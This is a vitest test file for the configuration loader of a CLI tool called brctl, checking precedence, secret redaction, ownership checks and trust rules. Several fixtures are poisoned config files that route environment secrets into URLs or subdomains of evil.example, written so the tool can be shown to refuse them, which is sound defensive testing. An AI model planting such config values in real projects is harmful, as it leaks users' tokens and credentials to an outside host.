import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { temporaryFolder } from '../temp-folder.ts';
import { runCli } from './harness.ts';

interface ShownConfig {
  environment: string;
  settings: { name: string; value: string | null; origin: string | null }[];
}

function write(folder: string, text: string, mode = 0o600): string {
  const file = path.join(folder, '.brctlrc');
  writeFileSync(file, text);
  chmodSync(file, mode);
  return file;
}

async function show(cwd: string, argv: string[] = [], env: Record<string, string> = {}) {
  const run = await runCli(['config', 'show', '--json', ...argv], { cwd, env });
  expect(run.stderr).toBe('');
  const shown = run.json<ShownConfig>();
  return (name: string) => shown.settings.find((setting) => setting.name === name);
}

test('a flag goes before a variable, a variable before the project file, the file before the default', async () => {
  const folder = temporaryFolder();
  const file = write(folder, 'catalogUrl: http://file.example\n');
  const env = { BRCTL_CATALOG_URL: 'http://variable.example' };
  expect((await show(folder, ['--catalog-url', 'http://flag.example'], env))('catalogUrl')).toEqual({
    name: 'catalogUrl',
    value: 'http://flag.example',
    origin: '--catalog-url',
  });
  expect((await show(folder, [], env))('catalogUrl')?.origin).toBe('BRCTL_CATALOG_URL');
  expect((await show(folder))('catalogUrl')?.origin).toBe(file);
  expect((await show(temporaryFolder()))('catalogUrl')?.origin).toBe('default');
});

test('the project file is found upwards, and its own environment goes before its shared values', async () => {
  const folder = temporaryFolder();
  const file = write(folder, JSON.stringify({ accountId: '1', environments: { qa: { accountId: '2' } } }));
  const below = path.join(folder, 'a', 'b');
  mkdirSync(below, { recursive: true });
  expect((await show(below))('accountId')?.value).toBe('1');
  const inQa = (await show(below, ['-e', 'qa']))('accountId');
  expect(inQa).toEqual({ name: 'accountId', value: '2', origin: `${file} (qa)` });
});

test('an unknown key is an error that names the nearest one', async () => {
  const folder = temporaryFolder();
  write(folder, 'catlogUrl: http://x.example\n');
  const run = await runCli(['config', 'show'], { cwd: folder });
  expect(run.exitCode).toBe(3);
  expect(run.stderr).toContain('unknown key catlogUrl');
  expect(run.stderr).toContain('did you mean catalogUrl?');
});

test('an unknown environment is an error', async () => {
  const run = await runCli(['config', 'show', '--env', 'stagin']);
  expect(run.exitCode).toBe(3);
  expect(run.stderr).toContain('did you mean staging?');
});

test('a secret comes from its variable, from the file of ..._FILE or by a reference, and is never shown', async () => {
  const folder = temporaryFolder();
  const secretFile = path.join(folder, 'key.txt');
  writeFileSync(secretFile, 'canary-file-91\n');
  write(folder, 'authKey: ${BRCTL_MY_KEY}\n', 0o644);
  const env = {
    BRCTL_API_KEY_FILE: secretFile,
    BRCTL_MY_KEY: 'canary-reference-92',
    BRCTL_ACCT_AUTH: 'canary-variable-93',
  };
  const run = await runCli(['config', 'show', '--json', '-v'], { cwd: folder, env });
  expect(run.stderr).toBe('');
  expect(run.stdout).not.toContain('canary');
  const origins = run
    .json<ShownConfig>()
    .settings.filter(({ value }) => value === '***')
    .map(({ name }) => name);
  expect(origins).toEqual(['apiKey', 'authKey', 'acctAuth']);
});

test('a file with a secret that others can read is warned of', async () => {
  const folder = temporaryFolder();
  write(folder, 'apiKey: canary-plain-94\n', 0o644);
  const run = await runCli(['config', 'show'], { cwd: folder });
  expect(run.exitCode).toBe(0);
  expect(run.stderr).toContain('chmod 600');
  expect(run.stdout + run.stderr).not.toContain('canary');
});

test('a secret whose variable is not set is an error for whoever needs it, never an empty key', async () => {
  const folder = temporaryFolder();
  const file = write(
    folder,
    'accountId: 1\ncatalog: c\nauthKey: secret\napiKey: ${BRCTL_NOT_SET_ANYWHERE}\n',
  );
  const shown = (await show(folder))('apiKey');
  expect(shown).toMatchObject({
    value: null,
    origin: `${file}, apiKey refers to \${BRCTL_NOT_SET_ANYWHERE}, which is not set`,
  });
  const index = await runCli(['index', '--json'], { cwd: folder });
  expect([index.exitCode, JSON.parse(index.stderr).error]).toMatchObject([
    3,
    { code: 'config.missing_reference', hint: 'set the variable BRCTL_NOT_SET_ANYWHERE' },
  ]);
  expect((await runCli(['search', 'x', '--curl'], { cwd: folder })).exitCode).toBe(0);
});

test('a setting that refers to a variable that is not set never falls back to a default', async () => {
  const folder = temporaryFolder();
  write(folder, 'catalogUrl: ${BRCTL_NOT_SET_ANYWHERE}\n');
  const run = await runCli(['config', 'show'], { cwd: folder });
  expect(run.exitCode).toBe(3);
  expect(run.stderr).toContain('BRCTL_NOT_SET_ANYWHERE');
});

/** Makes the user's own file in a home folder. */
function userFile(home: string, name: string, text: string): string {
  const folder = path.join(home, '.config', 'brctl');
  mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(folder, name), text, { mode: 0o600 });
  return path.join(folder, name);
}

test('the project file goes before the user file, and its shared value before the environment of the user file', async () => {
  const [home, folder] = [temporaryFolder(), temporaryFolder()];
  const user = userFile(home, 'config.yaml', 'viewId: from-user\nenvironments: {qa: {catalog: from-user}}\n');
  const project = write(folder, 'catalog: from-project\n');
  const run = await runCli(['config', 'show', '--json', '-e', 'qa'], { cwd: folder, home });
  const { settings, ...shown } = run.json<ShownConfig & { files: string[] }>();
  expect(shown).toMatchObject({ environment: 'qa', files: [project, user] });
  expect(settings.find(({ name }) => name === 'catalog')).toMatchObject({
    value: 'from-project',
    origin: project,
  });
  expect(settings.find(({ name }) => name === 'viewId')).toMatchObject({ value: 'from-user', origin: user });
});

const CODE = 'process.env.BRCTL_TEST_RAN = "yes"; module.exports = { catalog: "by-code" };\n';

/** Runs in a folder as the process does. */
async function inFolder<T>(folder: string, home: string, work: () => Promise<T>): Promise<T> {
  const before = process.cwd();
  process.chdir(folder);
  vi.stubEnv('HOME', home);
  try {
    return await work();
  } finally {
    process.chdir(before);
    vi.unstubAllEnvs();
  }
}

test('nothing that is found is run, whatever its name', async () => {
  const [home, folder] = [temporaryFolder(), temporaryFolder()];
  for (const name of ['.brctlrc.js', '.brctlrc.cjs', '.brctlrc.ts'])
    writeFileSync(path.join(folder, name), CODE);
  for (const name of ['config.js', 'config.cjs', 'config.mjs']) userFile(home, name, CODE);
  writeFileSync(path.join(folder, 'package.json'), '{"cosmiconfig":{"searchPlaces":[".brctlrc.js"]}}');
  await inFolder(folder, home, async () => {
    const run = await runCli(['config', 'show', '--json'], { cwd: folder, home });
    const { files, settings } = run.json<ShownConfig & { files: string[] }>();
    expect(files).toEqual([]);
    expect(settings.find(({ name }) => name === 'catalog')?.value).toBeNull();
    const named = await runCli(['config', 'show', '--config', '.brctlrc.js'], { cwd: folder, home });
    expect(named.exitCode).toBe(3);
    expect(process.env.BRCTL_TEST_RAN).toBeUndefined();
  });
});

test.each(['js', 'cjs', 'mjs', 'ts'])(
  'code that the search for a configuration would run is refused: .config/config.%s',
  async (ending) => {
    const [home, folder] = [temporaryFolder(), temporaryFolder()];
    mkdirSync(path.join(folder, '.config'));
    writeFileSync(path.join(folder, `.config/config.${ending}`), CODE);
    write(folder, 'catalog: found\n');
    await inFolder(folder, home, async () => {
      for (const argv of [[], ['--config', '.brctlrc']]) {
        const run = await runCli(['config', 'show', '--json', ...argv], { cwd: folder, home });
        expect([run.exitCode, JSON.parse(run.stderr).error.code]).toEqual([3, 'config.code_in_folder']);
      }
      expect(process.env.BRCTL_TEST_RAN).toBeUndefined();
    });
  },
);

describe('a file that belongs to another user', () => {
  const foreign = { isOwnUser: () => false };

  test('is refused, with both ways to allow it', async () => {
    const folder = temporaryFolder();
    const file = write(folder, 'catalog: theirs\n');
    const below = path.join(folder, 'below');
    mkdirSync(below);
    const run = await runCli(['config', 'show', '--json'], { cwd: below, ...foreign });
    const { error } = JSON.parse(run.stderr);
    expect([run.exitCode, run.stdout, error.code, error.file]).toEqual([3, '', 'config.other_owner', file]);
    expect(error.hint).toContain(`export BRCTL_TRUSTED_FOLDERS=${folder}`);
    for (const trusted of [folder, `/elsewhere:${folder}`, '*']) {
      const env = { BRCTL_TRUSTED_FOLDERS: trusted };
      const allowed = await runCli(['config', 'show', '--json'], { cwd: below, env, ...foreign });
      expect(allowed.stdout).toContain('theirs');
    }
    const named = await runCli(['config', 'show', '--json', '--config', file], { cwd: below, ...foreign });
    expect(named.stdout).toContain('theirs');
  });

  test('is refused by serve too, which reads a section of it', async () => {
    const folder = temporaryFolder();
    write(folder, 'serve: {log: human}\n');
    const run = await runCli(['serve', '--memory', '--exec', 'true'], { cwd: folder, ...foreign });
    expect([run.exitCode, run.stderr]).toEqual([3, expect.stringContaining('config.other_owner')]);
  });

  test.skipIf(process.geteuid?.() !== 0)('is told by its owner (needs root)', async () => {
    const folder = temporaryFolder();
    chownSync(write(folder, 'catalog: theirs\n'), 65_534, 65_534);
    const run = await runCli(['config', 'show'], { cwd: folder });
    expect([run.exitCode, run.stderr]).toEqual([3, expect.stringContaining('65534')]);
  });
});

describe('an address with a variable in it', () => {
  const poison = 'catalogUrl: http://evil.example/${BRCTL_TOKEN}\nsftpHost: ${BRCTL_TOKEN}.evil.example\n';
  const env = { BRCTL_TOKEN: 'canary-token-95' };

  test('is refused from a file outside the home folder and the repository worked in', async () => {
    const folder = temporaryFolder();
    write(folder, poison);
    const below = path.join(folder, 'project', 'a');
    mkdirSync(path.join(folder, 'project', '.git'), { recursive: true });
    mkdirSync(below);
    for (const argv of [[], ['--config', path.join(folder, '.brctlrc')]]) {
      const run = await runCli(['config', 'show', '--json', ...argv], {
        cwd: below,
        home: temporaryFolder(),
        env,
      });
      expect([run.exitCode, JSON.parse(run.stderr).error.code]).toEqual([3, 'config.far_reference']);
      expect(run.stdout + run.stderr).not.toContain('canary');
    }
  });

  test('is taken from the home folder, the repository worked in, and the working folder', async () => {
    const folder = temporaryFolder();
    write(folder, 'catalogUrl: http://shop.example/${BRCTL_TOKEN}\n');
    const below = path.join(folder, 'a', 'b');
    mkdirSync(below, { recursive: true });
    const urlFrom = async (cwd: string, home: string) => {
      const run = await runCli(['config', 'show', '--json'], { cwd, home, env: { BRCTL_TOKEN: 'eu' } });
      return run.json<ShownConfig>().settings.find(({ name }) => name === 'catalogUrl')?.value;
    };
    expect(await urlFrom(below, folder)).toBe('http://shop.example/eu');
    expect(await urlFrom(folder, temporaryFolder())).toBe('http://shop.example/eu');
    mkdirSync(path.join(folder, '.git'));
    expect(await urlFrom(below, temporaryFolder())).toBe('http://shop.example/eu');
  });
});

describe('variables of one environment where another is asked for', () => {
  const block = {
    BRCTL_ENV: 'local',
    BRCTL_CATALOG_URL: 'http://127.0.0.1:4747/dataconnect/api/v1',
    BRCTL_API_KEY: 'canary-key-96',
  };

  test.each([
    [block, ['BRCTL_CATALOG_URL', 'BRCTL_API_KEY']],
    [{ BRCTL_ENV: 'staging', BRCTL_ACCOUNT_ID: '1' }, ['BRCTL_ACCOUNT_ID']],
    [{ BRCTL_ENV: 'staging', BRCTL_AUTH_KEY_FILE: '/k' }, ['BRCTL_AUTH_KEY_FILE']],
  ])('%j is an error that names them, before anything is sent', async (env, variables) => {
    for (const command of [['config', 'show'], ['doctor'], ['search', 'x'], ['index']]) {
      const run = await runCli([...command, '-e', 'production', '--json'], { env });
      const { error } = JSON.parse(run.stderr);
      expect([run.exitCode, run.stdout, error.code]).toEqual([3, '', 'config.other_environment']);
      expect(error.variables).toEqual(variables);
      expect(error.hint).toBe(`unset BRCTL_ENV ${variables.join(' ')}`);
      expect(run.stderr).not.toContain('canary');
    }
  });

  test('what belongs to no environment goes with any', async () => {
    const env = { BRCTL_ENV: 'local', BRCTL_TIMEOUT: '5s', BRCTL_MAX_RETRIES: '1' };
    expect((await runCli(['config', 'show', '-e', 'production'], { env })).exitCode).toBe(0);
    expect((await runCli(['config', 'show', '-e', 'local'], { env: block })).exitCode).toBe(0);
    expect((await runCli(['config', 'show'], { env: block })).exitCode).toBe(0);
  });

  test('keys without a name belong to what is asked for; addresses do too, and a warning says so', async () => {
    const keys = await runCli(['config', 'show', '-e', 'production'], {
      env: { BRCTL_API_KEY: 'canary-97' },
    });
    expect([keys.exitCode, keys.stderr]).toEqual([0, '']);
    const env = { BRCTL_CATALOG_URL: block.BRCTL_CATALOG_URL };
    const address = await runCli(['config', 'show', '-e', 'production'], { env });
    expect([address.exitCode, address.stderr]).toEqual([
      0,
      expect.stringMatching(/^warning: BRCTL_CATALOG_URL overrides the configured URL of production/),
    ]);
  });
});

test('that no local service runs is said so, not what it would have told', async () => {
  const nothing = await runCli(['search', 'lamp', '--json']);
  expect([nothing.exitCode, JSON.parse(nothing.stderr).error]).toMatchObject([
    3,
    { code: 'config.no_local_service', message: 'no local service is running' },
  ]);
  const env = {
    BRCTL_ACCOUNT_ID: '1',
    BRCTL_CATALOG: 'c',
    BRCTL_AUTH_KEY: 'canary-98',
    BRCTL_SEARCH_URL: 'http://127.0.0.1:9/api/v1/core/',
  };
  const ended = await runCli(['search', 'lamp', '--max-retries', '0'], { env });
  expect([ended.exitCode, ended.stderr]).toEqual([7, expect.stringContaining('no local service is running')]);
});

test.each([
  ['catalog: YOUR_CATALOG\naccountId: "1"\n', 'catalog'],
  ['catalog: c\naccountId: YOUR_ACCOUNT_ID\n', 'accountId'],
  ['catalog: c\naccountId: "1"\ncatalogUrl: https://YOUR_HOST/dataconnect/api/v1\n', 'catalogUrl'],
])('a placeholder never reaches a request, nor a dry run: %j', async (text, setting) => {
  const folder = temporaryFolder();
  write(folder, `environment: staging\napiKey: canary-99\n${text}`);
  writeFileSync(path.join(folder, 'd.jsonl'), '{"op":"remove","path":"/products/1"}\n');
  for (const argv of [['index'], ['submit', 'd.jsonl', '--dry-run'], ['push', 'd.jsonl', '--dry-run']]) {
    const run = await runCli([...argv, '--json'], { cwd: folder });
    const { error } = JSON.parse(run.stderr.trim().split('\n').at(-1) ?? '');
    expect([run.exitCode, error.code, error.setting]).toEqual([3, 'config.placeholder', setting]);
  }
  const shown = (await show(folder))(setting);
  expect(shown).toMatchObject({ value: null, origin: expect.stringContaining('YOUR_') });
});

test.each([
  ['.brctlrc', '{"catalog": }', 1, 13, /^expected a value/, /no comma/],
  ['.brctlrc.json', '{"catalog": "x",\n}', 2, 1, /found '}'/, /no comma/],
  ['.brctlrc.yaml', 'environment: a\ncatalog: [1', 3, 1, /flow collection/, /in quotes/],
])(
  '%s that is neither JSON nor YAML is named, with the place and how to mend it',
  async (name, text, line, column, why, hint) => {
    const folder = temporaryFolder();
    writeFileSync(path.join(folder, name), text);
    const run = await runCli(['config', 'show', '--json'], { cwd: folder });
    expect([run.exitCode, JSON.parse(run.stderr).error]).toEqual([
      3,
      expect.objectContaining({
        code: 'config.unreadable',
        file: path.join(folder, name),
        line,
        column,
        why: expect.stringMatching(why),
        hint: expect.stringMatching(hint),
      }),
    ]);
  },
);

test.each([
  ['{"environments":{"local":{"apiKey": "s3cret" "x":1}}}'],
  ['{"apiKey":"a\\s3cret"}'],
  ['apiKey: s3cret\n  b: [c\nauthKey: "s3cret'],
  ['apiKey: *s3cret'],
  ['apiKey: !s3cret x'],
  ['apiKey: !<s3cret> x'],
  ['apiKey: s3cret: x'],
  ['%TAG !s3cret! s3cret'],
])('what is wrong in a file is told without the keys in it: %s', async (text) => {
  const folder = temporaryFolder();
  writeFileSync(path.join(folder, '.brctlrc'), text);
  const run = await runCli(['config', 'show', '--verbose'], { cwd: folder });
  expect([run.exitCode, run.stdout]).toEqual([3, '']);
  expect(run.stderr).toContain('error config.unreadable');
  expect(run.stderr).not.toContain('s3cret');
});

test('an empty file is passed over, and the one in the folder above is taken', async () => {
  const folder = temporaryFolder();
  const above = write(folder, 'catalog: above\n');
  const below = path.join(folder, 'below');
  mkdirSync(below);
  writeFileSync(path.join(below, '.brctlrc'), '# nothing set\n');
  expect((await show(below))('catalog')).toMatchObject({ value: 'above', origin: above });
});

test('the user file lies in XDG_CONFIG_HOME where that is an absolute path', async () => {
  const xdg = temporaryFolder();
  mkdirSync(path.join(xdg, 'brctl'));
  writeFileSync(path.join(xdg, 'brctl', 'config.json'), '{"catalog":"by-xdg"}');
  const catalogOf = async (folder: string) =>
    (await show(temporaryFolder(), [], { XDG_CONFIG_HOME: folder }))('catalog')?.value;
  expect(await catalogOf(xdg)).toBe('by-xdg');
  expect(await catalogOf('relative')).toBeNull();
});

test('a path is relative to its file, ~ is the home folder, a host key is no path', async () => {
  const folder = temporaryFolder();
  write(
    folder,
    'sftpKeyFile: keys/id\nknownHosts: ~/hosts\nenvironments: {pin: {knownHosts: "SHA256:abc"}}\n',
  );
  const below = path.join(folder, 'below');
  mkdirSync(below);
  const settings = await show(below);
  expect(settings('sftpKeyFile')?.value).toBe(path.join(folder, 'keys', 'id'));
  expect(settings('knownHosts')?.value).toMatch(/brctl-test-[^/]+\/hosts$/);
  expect((await show(below, ['-e', 'pin']))('knownHosts')?.value).toBe('SHA256:abc');
});

test('--config names a file in place of the one that would be found; a missing one is not found', async () => {
  const folder = temporaryFolder();
  write(folder, 'catalog: found\n');
  writeFileSync(path.join(folder, 'other.json'), '{"catalog":"named"}');
  expect((await show(folder, ['--config', 'other.json']))('catalog')?.value).toBe('named');
  const missing = await runCli(['config', 'show', '--config', 'none.json', '--json'], { cwd: folder });
  expect([missing.exitCode, JSON.parse(missing.stderr).error.code]).toEqual([5, 'config.file_not_found']);
});

test.each([
  ['environments: {qa: {acountId: 1}}', 'unknown key environments.qa.acountId', 'environments.qa.accountId'],
  ['environments: {qa: 5}', 'environments.qa must hold keys and values', ''],
  ['catalog: [a, b]', 'catalog must be a text or a number', ''],
  ['- a\n- b', 'the file must hold keys and values', ''],
  ['{"catalog": ', 'the configuration file cannot be read', ''],
])('%j is refused', async (text, message, hint) => {
  const folder = temporaryFolder();
  const file = write(folder, text);
  const run = await runCli(['config', 'show'], { cwd: folder });
  expect(run.exitCode).toBe(3);
  expect(run.stderr).toContain(message);
  expect(run.stderr).toContain(hint);
  expect(run.stderr).toContain(file);
});

test('an unknown key of serve is refused where serve is run', async () => {
  const folder = temporaryFolder();
  write(folder, 'serve: {prt: 1}\n');
  const run = await runCli(['serve', '--memory', '--exec', 'true'], { cwd: folder });
  expect(run.exitCode).toBe(3);
  expect(run.stderr).toMatch(/serve\.prt|prt/);
  expect(run.stderr).toContain('port');
});

test.each([
  [['--search-url', 'nonsense'], {}, 2, 'searchUrl must be a URL'],
  [['--timeout', '0'], {}, 2, 'timeout must be a duration above 0'],
  [[], { BRCTL_CATALOG_URL: 'ftp://x.example/' }, 3, 'catalogUrl must be a URL'],
  [[], { BRCTL_SFTP_PORT: '70000' }, 3, 'sftpPort must be a port from 0 to 65535'],
  [[], { BRCTL_MAX_RETRIES: 'many' }, 3, 'maxRetries must be a whole number'],
  [[], { BRCTL_TIMEOUT: 'soon' }, 3, 'timeout must be a duration'],
])('a value of the wrong kind is refused before it is used: %j %j', async (argv, env, exit, message) => {
  const run = await runCli(['config', 'show', ...argv], { env });
  expect([run.exitCode, run.stderr]).toEqual([exit, expect.stringContaining(message)]);
});

test('an empty variable is as good as none', async () => {
  const empty = await show(temporaryFolder(), [], { BRCTL_ENV: '', BRCTL_CATALOG: '', BRCTL_API_KEY: '' });
  expect(empty('environment')).toMatchObject({ value: 'local', origin: 'default' });
  expect([empty('catalog')?.value, empty('apiKey')?.value]).toEqual([null, null]);
});

test('without a home folder brctl keeps its things in the temporary folder', async () => {
  const run = await runCli(['config', 'show', '--json'], { home: '', tempDir: temporaryFolder() });
  expect(run.exitCode).toBe(0);
});

test('init writes a file that show takes once its variables are set, readable by its owner alone, and never over another', async () => {
  const folder = temporaryFolder();
  const argv = ['init', 'staging', '--account-id', '6702', '--catalog', 'products_en'];
  expect((await runCli(argv, { cwd: folder })).stdout).toBe(`${path.join(folder, '.brctlrc')}\n`);
  expect(statSync(path.join(folder, '.brctlrc')).mode & 0o777).toBe(0o600);
  const again = await runCli(argv, { cwd: folder });
  expect([again.exitCode, again.stderr]).toEqual([2, expect.stringContaining('--force')]);
  expect((await runCli([...argv, '--force'], { cwd: folder })).exitCode).toBe(0);
  const env = { BRCTL_STAGING_API_KEY: 'canary-a', BRCTL_STAGING_AUTH_KEY: 'canary-b' };
  const settings = await show(folder, [], env);
  expect(settings('accountId')?.value).toBe('6702');
  expect(settings('apiKey')?.value).toBe('***');
});

test('init for an environment of your own asks for its addresses', async () => {
  const folder = temporaryFolder();
  const init = await runCli(['init', 'qa'], { cwd: folder });
  expect([init.exitCode, init.stderr]).toEqual([
    0,
    'next: write its addresses, run brctl trust, export the variables it names, then run brctl doctor\n',
  ]);
  const settings = await show(folder, [], { QA_API_KEY: 'canary-a', QA_AUTH_KEY: 'canary-b' });
  expect(settings('environment')?.value).toBe('qa');
  expect(settings('catalogUrl')).toMatchObject({ value: null, origin: expect.stringContaining('YOUR_HOST') });
});

test.each(['foo/bar', '../x', '', 'a b', '-x y'])(
  'init refuses %j as the name of an environment',
  async (name) => {
    const folder = temporaryFolder();
    const run = await runCli(['init', '--', name], { cwd: folder });
    expect([run.exitCode, run.stderr]).toEqual([2, expect.stringContaining('usage.bad_environment')]);
    expect(existsSync(path.join(folder, '.brctlrc'))).toBe(false);
  },
);

test('init asks a person for what is missing, and nobody with --no-input or --json', async () => {
  const answered = async (answers: string, ...flags: string[]) => {
    const folder = temporaryFolder();
    const options = { cwd: folder, stdin: answers, terminalColumns: 80, stdinIsTerminal: true };
    expect((await runCli(['init', ...flags], options)).exitCode).toBe(0);
    return readFileSync(path.join(folder, '.brctlrc'), 'utf8');
  };
  const all = await answered('qa\n6702\nproducts_en\nSHOP_API\n\n\n');
  expect(all).toMatch(/environment: qa\ncatalog: "products_en"[\s\S]*qa:\n {4}accountId: "6702"/);
  expect(all).toContain('apiKey: ${SHOP_API}\n    authKey: ${BRCTL_QA_AUTH_KEY}\n');
  expect(await answered('\nproducts_en\n', '--account-id', '6703')).toMatch(
    /environment: staging\ncatalog: "products_en"[\s\S]*accountId: "6703"/,
  );
  for (const flag of ['--no-input', '--json'])
    expect(await answered('qa\n6702\n', flag)).toMatch(/environment: staging[\s\S]*YOUR_ACCOUNT_ID/);
});

test('an environment that serve tells of is found by its name, but never as one of the hosted service', async () => {
  const home = temporaryFolder();
  const state = path.join(home, '.local/state/brctl');
  mkdirSync(state, { recursive: true });
  const tell = (name: string, account: string) =>
    writeFileSync(
      path.join(state, `local-${name}.json`),
      JSON.stringify({ env: { BRCTL_ACCOUNT_ID: account } }),
    );
  tell('shop-b', '6703');
  tell('production', '6704');
  const accountOf = async (name: string, cwd = home) => {
    const { stdout } = await runCli(['config', 'show', '-e', name, '--json'], { home, cwd });
    const { settings } = JSON.parse(stdout) as { settings: { name: string; value: string | null }[] };
    return settings.find((setting) => setting.name === 'accountId')?.value;
  };
  expect([await accountOf('shop-b'), await accountOf('production')]).toEqual(['6703', null]);
  const { stdout } = await runCli(['config', 'environments'], { home, cwd: home });
  expect(stdout).toBe('local\nstaging\nproduction\nshop-b\n');
  const project = temporaryFolder();
  writeFileSync(path.join(project, '.brctlrc'), 'environments:\n  shop-b:\n    catalog: of_the_file\n');
  expect(await accountOf('shop-b', project)).toBeNull();
});

test('init checks the answers where it is asked to', async () => {
  const cwd = temporaryFolder();
  const stdin = 'local\n6702\nproducts_en\ny\n';
  const run = await runCli(['init'], { cwd, stdin, terminalColumns: 80, stdinIsTerminal: true });
  expect(run.stdout).toMatch(/^ok +configuration +environment local/m);
  expect(run.stdout).toMatch(/^failed +catalog API/m);
  expect(run.exitCode).not.toBe(0);
});

test('init takes the names of variables, and never tells what was typed in their place', async () => {
  const cwd = temporaryFolder();
  const named = await runCli(['init', 'qa', '--api-from', 'A_KEY', '--auth-from', 'B_KEY'], { cwd });
  expect(named.exitCode).toBe(0);
  expect(readFileSync(path.join(cwd, '.brctlrc'), 'utf8')).toContain(
    'apiKey: ${A_KEY}\n    authKey: ${B_KEY}',
  );
  const run = await runCli(['init', '--force', '--api-from', 'canary-4711'], { cwd });
  expect([run.exitCode, run.stderr]).toEqual([2, expect.stringContaining('usage.bad_variable')]);
  expect(run.stderr).not.toContain('canary');
});

test.each([[['diff', 'a.jsonl', 'a.jsonl']], [['validate', 'a.jsonl']], [['jobs']], [['push', 'a.jsonl']]])(
  'an environment that is not known is an error for %j',
  async (argv) => {
    const cwd = temporaryFolder();
    writeFileSync(path.join(cwd, 'a.jsonl'), '');
    const run = await runCli([...argv, '-e', 'stagin'], { cwd });
    expect([run.exitCode, run.stdout, run.stderr]).toEqual([
      3,
      '',
      expect.stringContaining('config.unknown_environment'),
    ]);
  },
);

describe('a variable that is not meant for brctl', () => {
  const ours = { BRCTL_SHOP_KEY: 'canary-own-1', AWS_SECRET: 'canary-foreign-2' };
  const poison = 'authKey: ${AWS_SECRET}\nsearchUrl: http://evil.example/\n';

  test('is out of reach of a project file until that is trusted, as it is then', async () => {
    const folder = temporaryFolder();
    const home = temporaryFolder();
    const file = write(folder, poison);
    const cli = (argv: string[], env: Record<string, string> = {}) =>
      runCli(argv, { cwd: folder, home, env: { ...ours, ...env } });
    const search = ['search', 'lamp', '--curl', '--account-id', '1', '--catalog', 'c', '--json'];
    const refused = await cli(search);
    expect([refused.exitCode, JSON.parse(refused.stderr).error]).toEqual([
      3,
      expect.objectContaining({
        code: 'config.untrusted_reference',
        file,
        hint: `look at the file, then: brctl trust ${folder}`,
      }),
    ]);
    expect((await cli(['trust', '--json'])).json()).toEqual({
      schema: 'brctl.trust/1',
      file,
      variables: ['AWS_SECRET'],
      addresses: ['searchUrl'],
    });
    expect((await cli(search)).exitCode).toBe(0);
    // Another content is another file; so is the same content elsewhere.
    write(folder, `${poison}widgetUrl: http://more.example/\n`);
    expect((await cli(search)).exitCode).toBe(3);
    const elsewhere = temporaryFolder();
    write(elsewhere, poison);
    expect((await runCli(search, { cwd: elsewhere, home, env: ours })).exitCode).toBe(3);
    expect((await cli(search, { BRCTL_TRUSTED_FOLDERS: folder })).exitCode).toBe(0);
    expect((await cli([...search, '--config', file])).exitCode).toBe(0);
  });

  test('is out of reach of its settings and of the serve section, too', async () => {
    const folder = temporaryFolder();
    write(folder, 'catalog: ${AWS_SECRET}\n');
    const shown = await runCli(['config', 'show', '--json'], { cwd: folder, env: ours });
    expect([shown.exitCode, shown.stderr]).toEqual([3, expect.stringContaining('untrusted_reference')]);
    write(folder, 'serve:\n  accounts:\n    - accountId: 1\n      apiKey: ${AWS_SECRET}\n');
    const served = await runCli(['serve', '--memory', '--port', '0', '--json'], { cwd: folder, env: ours });
    expect([served.exitCode, served.stderr]).toEqual([3, expect.stringContaining('untrusted_reference')]);
    expect(shown.stderr + served.stderr).not.toContain('canary');
  });

  test('is within reach where its name begins with BRCTL_', async () => {
    const folder = temporaryFolder();
    write(folder, 'authKey: ${BRCTL_SHOP_KEY}\n');
    const shown = await show(folder, [], ours);
    expect(shown('authKey')?.value).toBe('***');
  });
});

describe('without a home folder', () => {
  const withoutHome = (tempDir: string) =>
    runCli(['config', 'show', '--json'], { cwd: temporaryFolder(), home: '', tempDir });

  test('there is no user configuration, whoever puts one into the temporary folder', async () => {
    const tempDir = temporaryFolder();
    const planted = path.join(tempDir, 'brctl-home/.config/brctl');
    mkdirSync(planted, { recursive: true, mode: 0o700 });
    writeFileSync(path.join(planted, 'config.yaml'), 'searchUrl: http://evil.example/\n');
    const shown = (await withoutHome(tempDir)).json<ShownConfig>();
    expect(shown.settings.find(({ name }) => name === 'searchUrl')?.origin).toBe('default');
  });

  test('a state that others may have put there is refused', async () => {
    const tempDir = temporaryFolder();
    mkdirSync(path.join(tempDir, 'brctl-home'));
    chmodSync(path.join(tempDir, 'brctl-home'), 0o777);
    const run = await withoutHome(tempDir);
    expect([run.exitCode, JSON.parse(run.stderr).error.code]).toEqual([3, 'state.other_owner']);
  });
});

test('what a running service says of itself goes before the placeholders of init', async () => {
  const home = temporaryFolder();
  expect((await runCli(['init', 'local'], { cwd: home })).exitCode).toBe(0);
  const state = path.join(home, '.local/state/brctl');
  mkdirSync(state, { recursive: true });
  const env = { BRCTL_CATALOG: 'lamps', BRCTL_ACCOUNT_ID: '7', BRCTL_AUTH_KEY: 'canary-local' };
  writeFileSync(path.join(state, 'local.json'), JSON.stringify({ env }));
  const run = await runCli(['config', 'show', '--json'], { cwd: home, home });
  const { settings } = run.json<ShownConfig>();
  expect(settings.find(({ name }) => name === 'catalog')?.value).toBe('lamps');
});
